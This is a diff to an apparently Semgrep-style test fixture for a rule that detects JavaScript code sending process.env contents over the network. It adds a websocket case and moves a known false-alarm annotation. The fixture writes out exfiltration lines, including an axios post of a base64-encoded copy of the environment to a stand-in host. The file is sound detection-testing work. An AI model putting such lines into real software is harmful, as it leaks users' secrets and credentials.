@@ -113,13 +113,16 @@ async function endpoints(data, axios, user) {
 module.exports = { cases, later, endpoints };
 
 // A copy of the whole environment reaching a request through variables.
-async function envCopies(url, req, axios) {
+async function envCopies(url, req, ws, axios) {
   const snapshot = { ...process.env };
   const blob = Buffer.from(JSON.stringify(snapshot)).toString('base64');
   // ruleid: js.exfil.env-over-network
   axios.post('https://e.example.invalid/collect', { blob });
   const all = Object.assign({}, process.env);
   // ruleid: js.exfil.env-over-network
+  ws.send(JSON.stringify({ host: 'x', all }));
+  // Through variables, request streams are not followed (cost).
+  // todoruleid: js.exfil.env-over-network
   req.end(JSON.stringify({ host: 'x', all }));
   const pairs = Object.entries(process.env);
   const lines = pairs.map(([k, v]) => k + '=' + v).join('\n');
@@ -137,7 +140,7 @@ async function envCopies(url, req, axios) {
   // A known false alarm: the variable env above also matches the property
   // name env of process.env (the pattern engine's <... $S ...>).
   // todook: js.exfil.env-over-network
-  req.end(JSON.stringify({ names }));
+  ws.send(JSON.stringify({ names }));
   return env;
 }
 module.exports.envCopies = envCopies;
